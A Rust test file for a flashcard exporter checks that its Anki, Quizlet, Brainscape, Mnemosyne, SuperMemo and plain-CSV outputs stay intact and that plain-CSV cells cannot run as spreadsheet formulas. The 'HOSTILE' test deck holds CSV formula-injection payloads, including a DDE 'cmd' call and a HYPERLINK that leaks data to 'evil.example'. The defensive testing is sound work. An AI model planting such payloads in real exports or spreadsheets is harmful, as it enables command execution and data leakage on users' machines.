//! Export presets: each output is read back by an independent parser (the `csv` crate, or by
//! hand for SuperMemo and Mnemosyne's line rules) and checked against its app's import rules.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use deckforge::build::{BuildOptions, build};
use deckforge::write::presets::{Preset, TextOptions};

use crate::support::{EPOCH, TempDir, deckforge, run, seed_in};

/// Q72's and Q100's bullets as plain text (Q100's bold markers dropped).
const FULL_ANSWERS: [&str; 6] = [
    "SHAP (Shapley Additive Explanations): Provides local and global model interpretability.",
    "LIME (Local Interpretable Model-Agnostic Explanations): Generates explanations by approximating black-box models locally.",
    "PDP (Partial Dependence Plot): Visualizes the marginal effect of a feature on the predicted outcome.",
    "In traditional DevOps, CI/CD is focused on application code deployment and testing, whereas in MLOps, CI/CD includes managing not only the code but also data, model artifacts, and experiments.",
    "MLOps pipelines often require steps like data validation, model training, hyperparameter tuning, model evaluation, and model retraining, in addition to the typical code deployment processes.",
    "Versioning and reproducibility are more complex in MLOps due to the need to track both the model and the data used during training.",
];

/// Cards whose every cell would run as a formula, or break a tab- or line-based format,
/// if written as is.
const HOSTILE: &str = r#"# Hostile deck

## =cmd|' /C calc'!A0

1.  **=HYPERLINK("http://evil.example/?leak=1","click me")**

-   **Answer:** =1+1

2.  **+1 plus**

-   **Answer:** -1

3.  **@SUM(A1:A9)**

-   **Answer:** @SUM(1,2)

4.  **&#9;leading tab question**

-   **Answer:** &#9;=leading tab answer

5.  **-minus question**

-   **Answer:** &#13;carriage return answer

6.  **Multi-line answer with a tab in code?**

-   **Answer:** First line
    -   bullet one
    -   bullet two

    ```
    	tabbed code
    ```

7.  **&#10;line feed question**

-   **Answer:** +plus answer a&#9;b <!-- hidden -->
"#;

fn build_to(input: &Path, output: &Path, preset: Option<Preset>, bom: bool) -> usize {
    let mut options = BuildOptions::new(vec![input.to_path_buf()], output.to_path_buf(), 1);
    options.now = EPOCH.parse().unwrap();
    options.text = TextOptions { preset, bom };
    build(&options).unwrap().notes
}

/// True if `text` holds something an app would take for an HTML tag.
fn has_tag(text: &str) -> bool {
    text.as_bytes()
        .windows(2)
        .any(|w| w[0] == b'<' && (w[1].is_ascii_alphabetic() || w[1] == b'/' || w[1] == b'!'))
}

/// HTML to comparable text: tags dropped, the few entities the sanitiser writes decoded.
fn html_text(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&amp;", "&")
}

/// Comments are Anki's `#` header lines; other apps have none.
fn csv_records(bytes: &[u8], anki_headers: bool) -> Vec<csv::StringRecord> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .comment(anki_headers.then_some(b'#'))
        .from_reader(bytes)
        .records()
        .collect::<Result<_, _>>()
        .unwrap()
}

/// Every record a tab-separated app sees: one per line, no quoting at all.
fn tab_lines(text: &str) -> Vec<Vec<&str>> {
    assert!(text.ends_with('\n'), "the file ends with a newline");
    assert!(!text.contains('\r'), "LF only");
    text.split_terminator('\n')
        .map(|line| line.split('\t').collect())
        .collect()
}

fn assert_quizlet(text: &str, cards: usize) -> Vec<(String, String)> {
    let lines = tab_lines(text);
    assert_eq!(lines.len(), cards);
    lines
        .iter()
        .map(|fields| {
            assert_eq!(fields.len(), 2, "{fields:?}");
            for field in fields {
                assert!(!field.trim().is_empty() || field.is_empty(), "{fields:?}");
                assert!(!has_tag(field), "HTML in {field:?}");
            }
            assert!(!fields[0].is_empty(), "a term on every line");
            (fields[0].to_string(), fields[1].to_string())
        })
        .collect()
}

/// Mnemosyne's importer: strip the line end, decode `&#…;`, split on tabs; exactly two
/// fields and a non-empty question, or the whole import is refused.
fn assert_mnemosyne(text: &str, cards: usize) -> Vec<(String, String)> {
    assert!(
        !text.contains("&#"),
        "no character references left to decode"
    );
    let lines = tab_lines(text);
    assert_eq!(lines.len(), cards);
    lines
        .iter()
        .map(|fields| {
            let line = fields.join("\t");
            let stripped: Vec<&str> = line.trim_end().split('\t').collect();
            assert_eq!(stripped.len(), 2, "{line:?}");
            assert!(!stripped[0].is_empty(), "{line:?}");
            assert!(!stripped[1].is_empty(), "{line:?}");
            (stripped[0].to_string(), stripped[1].to_string())
        })
        .collect()
}

fn assert_brainscape(bytes: &[u8], cards: usize) -> Vec<(String, String)> {
    assert!(bytes.ends_with(b"\r\n"), "records end with CRLF");
    let records = csv_records(bytes, false);
    assert_eq!(records.len(), cards);
    records
        .iter()
        .map(|r| {
            assert_eq!(r.len(), 2, "{r:?}");
            assert!(!has_tag(&r[0]) && !has_tag(&r[1]), "HTML in {r:?}");
            (r[0].to_string(), r[1].to_string())
        })
        .collect()
}

/// SuperMemo Q&A: `Q: ` lines, `A: ` lines, one blank line after each item, CRLF.
fn assert_supermemo(text: &str, cards: usize) -> Vec<(String, String)> {
    assert!(
        !text.replace("\r\n", "").contains(['\r', '\n']),
        "CRLF only"
    );
    assert!(!text.contains('\t'));
    assert!(!has_tag(text), "no HTML");
    let items: Vec<&str> = text.split_terminator("\r\n\r\n").collect();
    assert_eq!(items.len(), cards);
    assert!(text.ends_with("\r\n\r\n"));
    items
        .iter()
        .map(|item| {
            let (mut question, mut answer) = (Vec::new(), Vec::new());
            for line in item.split("\r\n") {
                if let Some(q) = line.strip_prefix("Q: ") {
                    assert!(answer.is_empty(), "Q after A in {item:?}");
                    question.push(q);
                } else if let Some(a) = line.strip_prefix("A: ") {
                    answer.push(a);
                } else {
                    panic!("line without Q:/A: in {item:?}: {line:?}");
                }
            }
            assert!(!question.is_empty() && !answer.is_empty(), "{item:?}");
            (question.join("\n"), answer.join("\n"))
        })
        .collect()
}

const FORMULA_TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// Plain CSV: a header, five columns, and no cell a spreadsheet would run.
fn assert_plain(bytes: &[u8], cards: usize) -> Vec<csv::StringRecord> {
    assert!(bytes.ends_with(b"\r\n"), "records end with CRLF");
    let mut reader = csv::Reader::from_reader(bytes);
    assert_eq!(
        reader.headers().unwrap(),
        vec!["id", "question", "answer", "section", "tags"]
    );
    let records: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
    assert_eq!(records.len(), cards);
    for record in &records {
        assert_eq!(record.len(), 5, "{record:?}");
        for (column, cell) in record.iter().enumerate() {
            assert!(
                !cell.starts_with(FORMULA_TRIGGERS),
                "cell could run as a formula: {cell:?}"
            );
            // Anki's GUID alphabet includes `<`, so only the text columns are checked for tags.
            assert!(column == 0 || !has_tag(cell), "HTML in {cell:?}");
        }
    }
    records
}

/// The cell as written, before `'` was put in front of a formula trigger.
fn unneutralised(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_TRIGGERS) => rest,
        _ => cell,
    }
}

#[test]
fn every_preset_yields_the_seeds_100_cards_in_full() {
    let dir = TempDir::new("presets-seed");
    let seed = seed_in(&dir);
    for preset in Preset::ALL {
        let output = dir.join(&format!("seed-{preset}.{}", preset.extension()));
        assert_eq!(build_to(&seed, &output, Some(preset), false), 100);
        let bytes = fs::read(&output).unwrap();
        assert!(
            !bytes.starts_with("\u{feff}".as_bytes()),
            "no BOM unless asked"
        );
        let text = String::from_utf8(bytes.clone()).unwrap();
        let answers: Vec<String> = match preset {
            Preset::Anki => {
                let records = csv_records(&bytes, true);
                assert_eq!(records.len(), 100);
                assert!(records.iter().all(|r| r.len() == 7));
                records.iter().map(|r| html_text(&r[1])).collect()
            }
            Preset::Quizlet => assert_quizlet(&text, 100)
                .into_iter()
                .map(|c| c.1)
                .collect(),
            Preset::Brainscape => assert_brainscape(&bytes, 100)
                .into_iter()
                .map(|c| c.1)
                .collect(),
            Preset::Mnemosyne => assert_mnemosyne(&text, 100)
                .into_iter()
                .map(|c| html_text(&c.1))
                .collect(),
            Preset::Supermemo => assert_supermemo(&text, 100)
                .into_iter()
                .map(|c| c.1)
                .collect(),
            Preset::Plain => assert_plain(&bytes, 100)
                .iter()
                .map(|r| r[2].to_string())
                .collect(),
        };
        let q72 = &answers[71];
        let q100 = &answers[99];
        for (i, expected) in FULL_ANSWERS.iter().enumerate() {
            let answer = if i < 3 { q72 } else { q100 };
            assert!(
                answer.contains(expected),
                "{preset}: {expected:?} missing from {answer:?}"
            );
        }
        if preset != Preset::Anki && preset != Preset::Mnemosyne {
            assert_eq!(q72.matches('•').count(), 3, "{preset}: {q72:?}");
            assert_eq!(q100.matches('•').count(), 3, "{preset}: {q100:?}");
        }
    }
}

#[test]
fn hostile_cards_keep_every_format_intact() {
    let dir = TempDir::new("presets-hostile");
    let input = dir.join("hostile.md");
    fs::write(&input, HOSTILE).unwrap();
    let cards = 7;
    for preset in Preset::ALL {
        let output = dir.join(&format!("hostile-{preset}.{}", preset.extension()));
        assert_eq!(build_to(&input, &output, Some(preset), false), cards);
        let bytes = fs::read(&output).unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        match preset {
            Preset::Anki => assert_eq!(csv_records(&bytes, true).len(), cards),
            Preset::Quizlet => {
                let parsed = assert_quizlet(&text, cards);
                assert_eq!(parsed[3].0, "leading tab question");
                assert_eq!(
                    parsed[5].1,
                    "First line / • bullet one / • bullet two /  tabbed code"
                );
            }
            Preset::Brainscape => {
                let parsed = assert_brainscape(&bytes, cards);
                assert_eq!(
                    parsed[5].1,
                    "First line\n• bullet one\n• bullet two\n\ttabbed code"
                );
            }
            Preset::Mnemosyne => {
                let parsed = assert_mnemosyne(&text, cards);
                assert_eq!(
                    parsed[5].1,
                    "<p>First line</p><ul><li>bullet one</li><li>bullet two</li></ul>\
                     <pre><code>    tabbed code</code></pre>"
                );
                assert_eq!(parsed[6].1, "<p>+plus answer a b </p>");
            }
            Preset::Supermemo => {
                let parsed = assert_supermemo(&text, cards);
                assert_eq!(
                    parsed[5].1,
                    "First line\n• bullet one\n• bullet two\n    tabbed code"
                );
            }
            Preset::Plain => {
                let records = assert_plain(&bytes, cards);
                let original =
                    |row: usize, column: usize| unneutralised(&records[row][column]).to_string();
                assert_eq!(
                    original(0, 1),
                    "=HYPERLINK(\"http://evil.example/?leak=1\",\"click me\")"
                );
                assert_eq!(original(0, 2), "=1+1");
                assert_eq!(original(0, 3), "=cmd|' /C calc'!A0");
                assert_eq!(original(1, 1), "+1 plus");
                assert_eq!(original(1, 2), "-1");
                assert_eq!(original(2, 1), "@SUM(A1:A9)");
                assert_eq!(original(2, 2), "@SUM(1,2)");
                assert_eq!(original(3, 1), "\tleading tab question");
                assert_eq!(original(3, 2), "\t=leading tab answer");
                assert_eq!(original(4, 1), "-minus question");
                assert_eq!(original(4, 2), "\rcarriage return answer");
                // Rendering trims the blank first line, so no cell starts with LF.
                assert_eq!(original(6, 1), "line feed question");
                assert_eq!(original(6, 2), "+plus answer a\tb");
            }
        }
    }
}

/// The ids a reader sees in the `.apkg`'s collection, unzipped with the zip crate and read
/// with SQLite.
fn apkg_guids(apkg: &Path, dir: &TempDir) -> BTreeSet<String> {
    let mut archive = zip::ZipArchive::new(fs::File::open(apkg).unwrap()).unwrap();
    let collection = dir.join("collection.anki2");
    let mut entry = archive.by_name("collection.anki2").unwrap();
    std::io::copy(&mut entry, &mut fs::File::create(&collection).unwrap()).unwrap();
    let db = rusqlite::Connection::open(&collection).unwrap();
    let mut statement = db.prepare("SELECT guid FROM notes").unwrap();
    statement
        .query_map([], |row| row.get::<_, String>(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

#[test]
fn anki_and_plain_ids_are_the_package_guids() {
    let dir = TempDir::new("presets-guids");
    let seed = seed_in(&dir);
    let apkg = dir.join("seed.apkg");
    let anki = dir.join("seed.csv");
    let plain = dir.join("seed-plain.csv");
    build_to(&seed, &apkg, None, false);
    build_to(&seed, &anki, None, false);
    build_to(&seed, &plain, Some(Preset::Plain), false);
    let package = apkg_guids(&apkg, &dir);
    assert_eq!(package.len(), 100);

    let anki_records = csv_records(&fs::read(&anki).unwrap(), true);
    let anki_guids: BTreeSet<String> = anki_records.iter().map(|r| r[6].to_string()).collect();
    assert_eq!(anki_guids, package);

    let plain_records = assert_plain(&fs::read(&plain).unwrap(), 100);
    let plain_ids: BTreeSet<String> = plain_records
        .iter()
        .map(|r| unneutralised(&r[0]).to_string())
        .collect();
    assert_eq!(plain_ids, package);
}

#[test]
fn the_command_line_takes_presets_and_a_bom() {
    let dir = TempDir::new("presets-cli");
    let seed = seed_in(&dir);

    let csv = dir.join("excel.csv");
    let (code, _, stderr) = run(deckforge()
        .arg("build")
        .arg(&seed)
        .arg("-o")
        .arg(&csv)
        .args(["--preset", "plain", "--bom"]));
    assert_eq!(code, 0, "{stderr}");
    let bytes = fs::read(&csv).unwrap();
    let body = bytes
        .strip_prefix("\u{feff}".as_bytes())
        .expect("starts with a BOM");
    assert_plain(body, 100);

    let txt = dir.join("quizlet.txt");
    let (code, _, stderr) = run(deckforge()
        .arg("build")
        .arg(&seed)
        .arg("-o")
        .arg(&txt)
        .args(["--preset", "quizlet"]));
    assert_eq!(code, 0, "{stderr}");
    assert_quizlet(&fs::read_to_string(&txt).unwrap(), 100);
}

#[test]
fn text_options_on_a_package_are_usage_errors() {
    let dir = TempDir::new("presets-usage");
    let seed = seed_in(&dir);
    let apkg = dir.join("deck.apkg");
    let build_with = |output: &Path, extra: &[&str]| {
        run(deckforge()
            .arg("build")
            .arg(&seed)
            .arg("-o")
            .arg(output)
            .args(extra))
    };

    let (code, _, stderr) = build_with(&apkg, &["--preset", "quizlet"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("--preset quizlet") && stderr.contains(".txt"),
        "{stderr}"
    );

    let (code, _, stderr) = build_with(&apkg, &["--bom"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--bom"), "{stderr}");

    let (code, _, stderr) = build_with(&apkg, &["--preset", "excel"]);
    assert_eq!(code, 2, "clap refuses unknown presets: {stderr}");
    assert!(!apkg.exists(), "nothing written");

    let (code, _, stderr) = build_with(&dir.join("deck.txt"), &[]);
    assert_eq!(
        code, 2,
        "an output format to name is a usage mistake: {stderr}"
    );
    assert!(stderr.contains("--preset"), "{stderr}");

    let (code, _, stderr) = build_with(&apkg, &["--preset", "anki"]);
    assert_eq!(
        code, 0,
        "the anki preset on .apkg writes the package: {stderr}"
    );
    assert!(fs::read(&apkg).unwrap().starts_with(b"PK"));
}

#[test]
/// Anki's CSV import makes cards from the templates, so a retired question in a CSV would be a
/// studyable card for a new learner: only the package ships retired notes (without a card).
fn removed_questions_stay_only_in_packages() {
    let dir = TempDir::new("presets-removed");
    let seed = seed_in(&dir);
    build_to(&seed, &dir.join("first.apkg"), None, false);
    let text = fs::read_to_string(&seed).unwrap();
    let start = text.find("100.  **How does CI/CD").unwrap();
    let end = start + text[start..].find("\n----------").unwrap();
    fs::write(&seed, format!("{}{}", &text[..start], &text[end..])).unwrap();

    for preset in Preset::ALL {
        let output = dir.join(&format!("removed-{preset}.{}", preset.extension()));
        let notes = build_to(&seed, &output, Some(preset), false);
        let bytes = fs::read(&output).unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        let cards = match preset {
            Preset::Anki => csv_records(&bytes, true).len(),
            Preset::Quizlet => assert_quizlet(&text, 99).len(),
            Preset::Brainscape => assert_brainscape(&bytes, 99).len(),
            Preset::Mnemosyne => assert_mnemosyne(&text, 99).len(),
            Preset::Supermemo => assert_supermemo(&text, 99).len(),
            Preset::Plain => assert_plain(&bytes, 99).len(),
        };
        assert_eq!(cards, 99, "{preset}");
        assert_eq!(notes, 99, "{preset}");
        assert!(!text.contains("How does CI/CD differ"), "{preset}");
    }
    let package = dir.join("removed.apkg");
    assert_eq!(build_to(&seed, &package, None, false), 100);
    let dump = crate::support::dump_apkg(&package);
    assert_eq!(
        dump["card_count"], 99,
        "the retired note ships without a card"
    );
}

/// An answer that is only a number, `#` or `*` is what the author wrote, not an empty list
/// item or heading: every output shows it.
#[test]
fn answers_that_look_like_bare_markers_are_shown_as_written() {
    let dir = TempDir::new("lone-markers");
    let source = dir.join("markers.md");
    fs::write(
        &source,
        "Q: What port does HTTPS use?\nA: 443.\n\nQ: Which character starts a Markdown heading?\nA: #\n\n\
         Q: Which glob matches any name?\nA: *\n",
    )
    .unwrap();
    let anki = dir.join("markers.csv");
    let (code, _, stderr) = run(deckforge()
        .arg("build")
        .arg(&source)
        .arg("-o")
        .arg(&anki)
        .arg("--no-lock"));
    assert_eq!(code, 0, "{stderr}");
    let plain = dir.join("plain.csv");
    let (code, _, stderr) = run(deckforge()
        .arg("build")
        .arg(&source)
        .arg("-o")
        .arg(&plain)
        .args(["--preset", "plain", "--no-lock"]));
    assert_eq!(code, 0, "{stderr}");

    let answers = |path: &Path, column: usize| -> Vec<String> {
        let text = fs::read_to_string(path).unwrap();
        let body: String = text
            .lines()
            .filter(|l| !l.starts_with('#'))
            .map(|l| format!("{l}\n"))
            .collect();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(body.as_bytes());
        reader
            .records()
            .map(|r| r.unwrap()[column].to_string())
            .collect()
    };
    assert_eq!(answers(&anki, 1), ["<p>443.</p>", "<p>#</p>", "<p>*</p>"]);
    let plain_answers = answers(&plain, 2);
    assert_eq!(&plain_answers[1..], ["443.", "#", "*"], "{plain_answers:?}");
}
